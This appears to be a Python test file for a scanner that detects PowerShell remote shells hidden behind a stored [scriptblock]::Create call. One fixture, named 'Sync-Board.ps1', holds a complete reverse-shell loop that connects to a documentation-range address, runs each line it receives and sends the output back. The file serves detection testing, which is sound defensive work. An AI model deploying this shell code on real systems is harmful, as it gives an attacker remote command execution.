"""``[ScriptBlock]::Create`` taken as a value and invoked later (``$make = [scriptblock]::Create;
$make.Invoke($text)``) makes a script block like the call written out: run with ``&`` on what a
raw connection reads, it is a remote shell. Addresses are documentation ranges; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_SOCKET = (
    "$peer = New-Object Net.Sockets.TcpClient('203.0.113.77', 8443)\n"
    "$io = $peer.GetStream()\n"
    "$in = New-Object IO.StreamReader($io)\n"
    "$out = New-Object IO.StreamWriter($io)\n"
)


def test_line_from_a_connection_run_through_a_stored_create(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/Sync-Board.ps1": _SOCKET + "$make = [scriptblock]::Create\n"
            "while ($true) {\n"
            "  $cmd = $in.ReadLine()\n"
            "  $blk = $make.Invoke($cmd)\n"
            "  $res = & $blk | Out-String\n"
            "  $out.WriteLine($res); $out.Flush()\n"
            "}\n"
        },
    )
    assert ("REMOTE_SHELL", "scripts/Sync-Board.ps1", 9) in errors


def test_stored_create_on_a_constant_stays_clean(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/Show-Board.ps1": "$make = [scriptblock]::Create\n"
            "$block = $make.Invoke('Get-ChildItem -Path . -Filter *.md')\n"
            "& $block | Format-Table Name, Length\n"
        },
    )
    assert not errors
